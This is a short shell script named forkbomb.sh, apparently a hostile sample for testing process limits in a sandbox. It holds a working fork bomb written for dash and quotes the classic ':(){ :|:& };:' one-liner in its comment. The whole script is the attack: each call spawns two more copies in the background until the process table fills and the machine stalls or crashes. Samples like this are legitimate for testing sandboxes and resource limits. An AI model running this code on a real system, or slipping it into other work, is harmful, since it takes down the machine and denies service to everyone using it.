# forkbomb.sh - hostile shell fork bomb (SANDBOX-PROCS), the classic
# ':(){ :|:& };:' spelled for dash, then wait for the swarm.
bomb() { bomb | bomb & }
bomb
wait
